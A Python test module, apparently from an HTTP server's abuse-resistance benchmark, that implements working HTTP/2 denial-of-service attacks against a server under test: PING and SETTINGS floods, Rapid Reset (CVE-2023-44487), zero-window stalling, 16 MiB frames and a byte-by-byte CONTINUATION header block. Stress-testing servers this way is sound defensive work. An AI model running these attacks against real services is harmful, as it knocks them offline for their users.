"""Full-size HTTP/2 attacks on a server under test (issue 17, "Holds under abuse").

Each attack is one coroutine, ``await attack(host, port, ...)``, that speaks raw h2c
(prior knowledge) over its own connection(s), with frames built by hand (hyperframe and
hpack: the h2 library would refuse to send most of them), and returns an
:class:`AttackOutcome`: what it sent, how long it ran, and how the server answered
(GOAWAY and its error code, resets, acknowledgements, or nothing until it closed).  The
abuse-table scenario runs them beside a normal load and measures the server's CPU and
memory and the other clients' TTFT.

* :func:`ping_flood` / :func:`settings_flood`: a million PING (SETTINGS) frames, read or
  never read.
* :func:`rapid_reset`: HEADERS (+ DATA) then RST_STREAM, stream after stream
  (CVE-2023-44487).
* :func:`never_reading`: 256 streaming requests on a connection whose every window is 0.
* :func:`huge_frame`: connections that announce a 16 MiB frame and send it.
* :func:`slow_header_block`: a header block one CONTINUATION byte at a time.
"""

from __future__ import annotations

import struct
import time

import attrs
import hpack
import trio
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

__all__ = [
    "AttackOutcome",
    "huge_frame",
    "never_reading",
    "ping_flood",
    "rapid_reset",
    "settings_flood",
    "slow_header_block",
]

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
#: Frames written per ``send_all``.
BATCH = 4096
_HEADER = struct.Struct(">HBBBL")
_RST_STREAM, _SETTINGS, _PING, _GOAWAY, _WINDOW_UPDATE = 0x3, 0x4, 0x6, 0x7, 0x8
_ACK = 0x1
_ERROR_NAMES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 6: "FRAME_SIZE_ERROR", 8: "CANCEL", 11: "ENHANCE_YOUR_CALM"}


@attrs.define
class AttackOutcome:
    """What one attack did and what the server answered."""

    name: str
    frames_sent: int = 0
    bytes_sent: int = 0
    seconds: float = 0.0
    goaway: int | None = None  # the error code of the server's GOAWAY, if one came
    resets: int = 0  # RST_STREAM frames from the server
    acks: int = 0  # PING and SETTINGS acknowledgements from the server
    closed: bool = False  # the server closed the connection
    bytes_received: int = 0
    connections: int = 1

    @property
    def verdict(self) -> str:
        """How the server ended it, in a few words."""
        if self.goaway is not None:
            return f"GOAWAY {_ERROR_NAMES.get(self.goaway, self.goaway)}"
        if self.resets:
            return f"{self.resets} RST_STREAM"
        return "closed" if self.closed else "not stopped"


@attrs.define(eq=False)
class _Reader:
    """Reads the server's frames (or only waits, for a client that never reads) and
    keeps the counts of :class:`AttackOutcome`."""

    stream: trio.SocketStream
    outcome: AttackOutcome
    done: trio.Event = attrs.field(factory=trio.Event)
    window: int = 65535  # the server's connection window for our DATA
    _window_opened: trio.Event = attrs.field(factory=trio.Event)
    _buffer: bytes = b""

    async def spend(self, size: int) -> bool:
        """Wait until the connection window takes ``size`` DATA bytes, and take them;
        False if the server closed first."""
        while self.window < size:
            if self.done.is_set():
                return False
            self._window_opened = trio.Event()
            with trio.move_on_after(1.0):
                await self._window_opened.wait()
        self.window -= size
        return True

    async def run(self) -> None:
        try:
            while data := await self.stream.receive_some(1 << 16):
                self.outcome.bytes_received += len(data)
                self._parse(data)
        except (trio.BrokenResourceError, trio.ClosedResourceError):
            pass
        self.outcome.closed = True
        self.done.set()
        self._window_opened.set()

    def _parse(self, data: bytes) -> None:
        buffer = self._buffer + data
        offset = 0
        while offset + 9 <= len(buffer):
            high, low, kind, flags, stream_id = _HEADER.unpack_from(buffer, offset)
            length = high << 8 | low
            if offset + 9 + length > len(buffer):
                break
            if kind == _GOAWAY:
                self.outcome.goaway = int.from_bytes(buffer[offset + 13 : offset + 17], "big")
            elif kind == _RST_STREAM:
                self.outcome.resets += 1
            elif kind in (_PING, _SETTINGS) and flags & _ACK:
                self.outcome.acks += 1
            elif kind == _WINDOW_UPDATE and stream_id == 0:
                self.window += int.from_bytes(buffer[offset + 9 : offset + 13], "big") & 0x7FFFFFFF
                self._window_opened.set()
            offset += 9 + length
        self._buffer = buffer[offset:]


async def _connect(host: str, port: int, settings: dict[int, int] | None = None) -> trio.SocketStream:
    stream = await trio.open_tcp_stream(host, port)
    await stream.send_all(PREFACE + SettingsFrame(0, settings=settings or {}).serialize())
    return stream


async def _send(stream: trio.SocketStream, outcome: AttackOutcome, data: bytes, frames: int) -> bool:
    """Send ``data`` (``frames`` frames); False once the server has closed."""
    try:
        await stream.send_all(data)
    except (trio.BrokenResourceError, trio.ClosedResourceError):
        return False
    outcome.frames_sent += frames
    outcome.bytes_sent += len(data)
    return True


async def _flood(name: str, host: str, port: int, frame: bytes, count: int, read: bool, limit: float) -> AttackOutcome:
    """``count`` copies of ``frame``, as fast as the server takes them, for at most
    ``limit`` seconds (a server that stops reading an unread flood, and never closes,
    would hold the attack forever)."""
    outcome = AttackOutcome(name)
    started = time.perf_counter()
    stream = await _connect(host, port)
    reader = _Reader(stream, outcome)
    batch = frame * BATCH
    async with trio.open_nursery() as nursery:
        if read:
            nursery.start_soon(reader.run)
        sent = 0
        with trio.move_on_after(limit):
            while sent < count and not reader.done.is_set():
                n = min(BATCH, count - sent)
                if not await _send(stream, outcome, batch if n == BATCH else frame * n, n):
                    break
                sent += n
        if read:
            with trio.move_on_after(2.0):
                await reader.done.wait()
        nursery.cancel_scope.cancel()
    await stream.aclose()
    outcome.seconds = time.perf_counter() - started
    return outcome


async def ping_flood(
    host: str, port: int, *, count: int = 1_000_000, read: bool = True, limit: float = 120.0
) -> AttackOutcome:
    """``count`` PINGs on one connection; ``read=False``: the ACKs are never read."""
    frame = PingFrame(0, opaque_data=b"llmsim!!").serialize()
    return await _flood("PING flood" + ("" if read else " (unread)"), host, port, frame, count, read, limit)


async def settings_flood(
    host: str, port: int, *, count: int = 1_000_000, read: bool = True, limit: float = 120.0
) -> AttackOutcome:
    """``count`` SETTINGS frames (each one setting) on one connection."""
    frame = SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: 100}).serialize()
    return await _flood("SETTINGS flood" + ("" if read else " (unread)"), host, port, frame, count, read, limit)


def _request_head(path: str, body: bytes) -> list[tuple[bytes, bytes]]:
    head = [(b":method", b"POST" if body else b"GET"), (b":scheme", b"http"), (b":path", path.encode())]
    head.append((b":authority", b"attack"))
    if body:
        head += [(b"content-type", b"application/json"), (b"content-length", b"%d" % len(body))]
    return head


async def rapid_reset(
    host: str,
    port: int,
    *,
    count: int = 100_000,
    path: str = "/v1/models",
    body: bytes = b"",
    reconnect: bool = False,
) -> AttackOutcome:
    """``count`` streams, each HEADERS (+ DATA with ``body``) and at once RST_STREAM
    CANCEL, with no wait for anything (pass ``body=chat_body(model, 100)`` (benchmarks/loadgen/records.py) and
    ``path="/v1/chat/completions"`` for the chat variant).  All on one connection, or
    with ``reconnect`` on as many as it takes: a new one whenever the server closes one
    (as the CVE-2023-44487 tools do)."""
    outcome = AttackOutcome("rapid reset" + (" (chat)" if body else "") + (" reconnecting" if reconnect else ""))
    started = time.perf_counter()
    sent, outcome.connections = 0, 0
    while sent < count:
        sent += await _reset_streams(host, port, outcome, count - sent, path, body)
        outcome.connections += 1
        if not reconnect:
            break
    outcome.seconds = time.perf_counter() - started
    return outcome


async def _reset_streams(host: str, port: int, outcome: AttackOutcome, count: int, path: str, body: bytes) -> int:
    """One connection of :func:`rapid_reset`: the number of streams sent on it."""
    stream = await _connect(host, port)
    reader = _Reader(stream, outcome)
    encoder = hpack.Encoder()
    fields = _request_head(path, body)
    flags = ["END_HEADERS"] if body else ["END_HEADERS", "END_STREAM"]
    per_batch = max(1, min(BATCH // 2, 16384 // len(body))) if body else BATCH // 2  # (bodies: 16 KiB a batch)
    sent = 0
    async with trio.open_nursery() as nursery:
        nursery.start_soon(reader.run)
        while sent < count and not reader.done.is_set():
            parts = []
            for sid in range(2 * sent + 1, 2 * min(sent + per_batch, count) + 1, 2):
                parts.append(HeadersFrame(sid, data=encoder.encode(fields), flags=flags).serialize())
                if body:
                    parts.append(DataFrame(sid, data=body, flags=["END_STREAM"]).serialize())
                parts.append(RstStreamFrame(sid, error_code=8).serialize())
            if body and not await reader.spend(len(body) * (len(parts) // 3)):
                break  # (DATA within the server's connection window, as a real client must)
            if not await _send(stream, outcome, b"".join(parts), len(parts)):
                break
            sent = min(sent + per_batch, count)
        with trio.move_on_after(2.0):
            await reader.done.wait()
        nursery.cancel_scope.cancel()
    await stream.aclose()
    return max(sent, 1)


async def never_reading(
    host: str, port: int, *, streams: int = 256, path: str = "/v1/chat/completions", body: bytes, hold: float = 60.0
) -> AttackOutcome:
    """``streams`` requests on one connection that announces a window of 0 and never
    opens it; waits up to ``hold`` seconds for the server to reset them all."""
    outcome = AttackOutcome("never-reading client")
    started = time.perf_counter()
    stream = await _connect(host, port, {SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    reader = _Reader(stream, outcome)
    encoder = hpack.Encoder()
    fields = _request_head(path, body)
    parts = []
    for sid in range(1, 2 * streams, 2):
        parts.append(HeadersFrame(sid, data=encoder.encode(fields), flags=["END_HEADERS"]).serialize())
        parts.append(DataFrame(sid, data=body, flags=["END_STREAM"]).serialize())
    async with trio.open_nursery() as nursery:
        nursery.start_soon(reader.run)
        await _send(stream, outcome, b"".join(parts), len(parts))
        with trio.move_on_after(hold):
            while outcome.resets < streams and not reader.done.is_set():
                await trio.sleep(0.05)
        nursery.cancel_scope.cancel()
    await stream.aclose()
    outcome.seconds = time.perf_counter() - started
    return outcome


async def huge_frame(
    host: str, port: int, *, connections: int = 10, size: int = 16 * 1024 * 1024 - 1, hold: float = 10.0
) -> AttackOutcome:
    """``connections`` connections, each opening a POST and sending one DATA frame of
    ``size`` bytes (announced in its header, then the payload, all but its last byte);
    each then waits up to ``hold`` seconds for the server to answer or close."""
    outcome = AttackOutcome(f"{(size + 1) >> 20} MiB frame x{connections}")
    started = time.perf_counter()
    fields = _request_head("/v1/completions", b"x")

    async def one() -> None:
        encoder = hpack.Encoder()  # one per connection: each has its own HPACK state
        stream = await _connect(host, port)
        reader = _Reader(stream, outcome)
        async with trio.open_nursery() as nursery:
            nursery.start_soon(reader.run)
            head = HeadersFrame(1, data=encoder.encode(fields), flags=["END_HEADERS"]).serialize()
            header = _HEADER.pack(size >> 8, size & 0xFF, 0x0, 0x0, 1)
            if await _send(stream, outcome, head + header, 2):
                chunk = b"x" * (1 << 16)
                left = size - 1
                while left > 0 and not reader.done.is_set():
                    piece = chunk[: min(left, len(chunk))]
                    if not await _send(stream, outcome, piece, 0):
                        break
                    left -= len(piece)
            with trio.move_on_after(hold):
                await reader.done.wait()
            nursery.cancel_scope.cancel()
        await stream.aclose()

    async with trio.open_nursery() as nursery:
        for _ in range(connections):
            nursery.start_soon(one)
    outcome.seconds = time.perf_counter() - started
    return outcome


async def slow_header_block(host: str, port: int, *, interval: float = 1.0, limit: float = 120.0) -> AttackOutcome:
    """A HEADERS frame without END_HEADERS, then one single-byte CONTINUATION frame
    every ``interval`` seconds, until the server closes (or ``limit`` seconds):
    ``seconds`` says how long the server listened."""
    outcome = AttackOutcome("slow header block")
    started = time.perf_counter()
    stream = await _connect(host, port)
    reader = _Reader(stream, outcome)
    encoder = hpack.Encoder()
    block = encoder.encode(_request_head("/v1/models", b""))
    async with trio.open_nursery() as nursery:
        nursery.start_soon(reader.run)
        await _send(stream, outcome, HeadersFrame(1, data=block[:1]).serialize(), 1)
        with trio.move_on_after(limit):
            for byte in block[1:] * 1000:  # never END_HEADERS
                if reader.done.is_set():
                    break
                await trio.sleep(interval)
                if not await _send(stream, outcome, ContinuationFrame(1, data=bytes([byte])).serialize(), 1):
                    break
        nursery.cancel_scope.cancel()
    await stream.aclose()
    outcome.seconds = time.perf_counter() - started
    return outcome
